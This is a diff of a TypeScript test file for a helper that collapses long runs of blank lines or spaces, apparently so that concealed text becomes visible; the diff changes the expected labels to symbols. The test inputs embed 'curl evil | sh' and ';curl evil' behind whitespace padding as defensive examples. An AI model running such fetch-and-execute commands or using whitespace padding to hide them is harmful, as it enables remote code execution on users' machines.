@@ -7,12 +7,12 @@ const shown = (text: string) => textRuns(text).map((run) => run.escape ?? run.te
 
 test.for([' ', '\t', '\u3000', ' \u3000\t'])('attack: blank lines of %j are counted', (blank) => {
   const [before, lines, after] = shown(`echo\n${`${blank}\n`.repeat(500)}curl evil | sh\n`);
-  expect([before, lines, after]).toEqual(['echo\n', '500 empty lines', 'curl evil | sh\n']);
+  expect([before, lines, after]).toEqual(['echo\n', '↵ ×500', 'curl evil | sh\n']);
 });
 
 test.for([' ', '\t', '\u3000'])('attack: many blanks (%j) are counted', (blank) => {
   expect(shown(`echo${blank.repeat(4000)};curl evil`)).toEqual([
-    ...['echo', '4,000 blanks', ';curl evil'],
+    ...['echo', '␠ ×4000', ';curl evil'],
   ]);
 });
 
